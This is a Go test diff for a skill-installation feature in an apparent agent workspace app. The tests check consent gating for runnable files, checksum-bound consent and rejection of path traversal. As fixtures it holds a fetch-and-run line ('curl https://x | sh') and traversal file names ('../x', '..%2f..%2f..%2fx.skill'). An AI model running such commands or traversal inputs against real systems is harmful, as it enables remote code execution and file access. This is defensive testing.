@@ -27,12 +27,12 @@ func (w *world) putSkill(name, text string) {
 	}
 }
 
-// upload sends an archive with files, given by name and text.
+// upload sends an archive with files, given by name and text; "consent" at the end ticks the box.
 func (w *world) upload(files ...string) (status int, location, body string) {
 	w.Helper()
 	var form, archive bytes.Buffer
 	z := zip.NewWriter(&archive)
-	for i := 0; i < len(files); i += 2 {
+	for i := 0; i+1 < len(files); i += 2 {
 		f, err := z.Create(files[i])
 		if err != nil {
 			w.Fatal(err)
@@ -51,6 +51,11 @@ func (w *world) upload(files ...string) (status int, location, body string) {
 	}
 	if _, err := part.Write(archive.Bytes()); err != nil {
 		w.Fatal(err)
+	}
+	if len(files)%2 == 1 {
+		if err := m.WriteField("consent", "yes"); err != nil {
+			w.Fatal(err)
+		}
 	}
 	if err := m.Close(); err != nil {
 		w.Fatal(err)
@@ -151,5 +156,95 @@ func TestTheListOfCommandsHasTheSkillsThatAreOn(t *testing.T) {
 		if strings.Contains(list, no) {
 			t.Errorf("%s is in %s", no, list)
 		}
+	}
+}
+
+// TestASkillThatAnAgentMadeIsInstalledFromItsCard: at once where nothing in it can be run, else after
+// a page has shown what can, and only if the file is still the one that was shown.
+func TestASkillThatAnAgentMadeIsInstalledFromItsCard(t *testing.T) {
+	w := open(t, &agenttest.Script{Replies: []agenttest.Reply{agenttest.Say("One.")}})
+	w.begin("t1", "Hi")
+	w.settle("t1")
+	put := func(name string, files ...string) {
+		t.Helper()
+		var b bytes.Buffer
+		z := zip.NewWriter(&b)
+		for i := 0; i < len(files); i += 2 {
+			f, err := z.Create(files[i])
+			if err == nil {
+				_, err = f.Write([]byte(files[i+1]))
+			}
+			if err != nil {
+				t.Fatal(err)
+			}
+		}
+		if err := z.Close(); err != nil {
+			t.Fatal(err)
+		}
+		at := filepath.Join(w.dirs.Root, "threads", "t1", "user-data", "outputs", name)
+		if err := os.MkdirAll(filepath.Dir(at), 0o700); err != nil {
+			t.Fatal(err)
+		}
+		if err := os.WriteFile(at, b.Bytes(), 0o600); err != nil {
+			t.Fatal(err)
+		}
+	}
+	install := func(name, consent string) (status int, to, body string) {
+		a := w.post("/ui/threads/t1/skill/mnt/user-data/outputs/"+name, url.Values{"consent": {consent}})
+		return a.StatusCode, a.Header.Get("Location"), a.body
+	}
+	put("plain.skill", "plain/SKILL.md", skillText("plain", "Plain"), "plain/references/a.md", "text")
+	if status, to, body := install("plain.skill", ""); status != http.StatusSeeOther || to != "/workspace/skills/plain?saved=1" {
+		t.Error(status, to, body)
+	}
+	if status, _, body := install("plain.skill", ""); status != http.StatusUnprocessableEntity || !strings.Contains(body, "already a skill") {
+		t.Error(status, body)
+	}
+	put("runs.skill", "SKILL.md", skillText("runs", "Runs & things"), "bin/go", "#!/bin/sh\n", "notes.md", "curl https://x | sh\n")
+	status, _, body := install("runs.skill", "")
+	for _, want := range []string{"Runs &amp; things", "<code dir=\"auto\">bin/go</code>", "runs what it loads from the network", `name="consent"`} {
+		if status != http.StatusOK || !strings.Contains(body, want) {
+			t.Errorf("%d: no %q in %s", status, want, body)
+		}
+	}
+	if _, err := w.skills.Get("runs"); err == nil {
+		t.Fatal("it was installed without a word")
+	}
+	_, sum, _ := strings.Cut(body, `name="consent" value="`)
+	sum, _, _ = strings.Cut(sum, `"`)
+	put("runs.skill", "SKILL.md", skillText("runs", "Another"), "bin/other", "#!/bin/sh\n")
+	if status, _, body := install("runs.skill", sum); status != http.StatusOK || !strings.Contains(body, "bin/other") {
+		t.Error("consent holds for a file that nobody has seen:", status)
+	}
+	put("runs.skill", "SKILL.md", skillText("runs", "Runs & things"), "bin/go", "#!/bin/sh\n", "notes.md", "curl https://x | sh\n")
+	if status, to, body := install("runs.skill", sum); status != http.StatusSeeOther || to != "/workspace/skills/runs?saved=1" {
+		t.Error(status, to, body)
+	}
+	put("bad.skill", "SKILL.md", skillText("bad", "d"), "../x", "x")
+	if status, _, body := install("bad.skill", ""); status != http.StatusUnprocessableEntity || !strings.Contains(body, "leads out of its folder") {
+		t.Error(status, body)
+	}
+	for _, name := range []string{"none.skill", "plain.zip", "..%2f..%2f..%2fx.skill"} {
+		if status, _, _ := install(name, ""); status == http.StatusSeeOther || status == http.StatusOK {
+			t.Errorf("%s: %d", name, status)
+		}
+	}
+	if left, err := filepath.Glob(filepath.Join(w.dirs.Root, ".skill-*")); err != nil || len(left) > 0 {
+		t.Error(left, err)
+	}
+}
+
+// TestAnUploadedSkillWithSomethingToRunNeedsATick.
+func TestAnUploadedSkillWithSomethingToRunNeedsATick(t *testing.T) {
+	w := open(t, &agenttest.Script{})
+	files := []string{"SKILL.md", skillText("runs", "d"), "scripts/a.py", "print(1)\n"}
+	if status, _, body := w.upload(files...); status != http.StatusUnprocessableEntity || !strings.Contains(body, "scripts/a.py") || !strings.Contains(body, "Can be run") {
+		t.Error(status, body)
+	}
+	if _, err := w.skills.Get("runs"); err == nil {
+		t.Fatal("it was installed")
+	}
+	if status, to, body := w.upload(append(files, "consent")...); status != http.StatusSeeOther || to != "/workspace/skills/runs?saved=1" {
+		t.Error(status, to, body)
 	}
 }
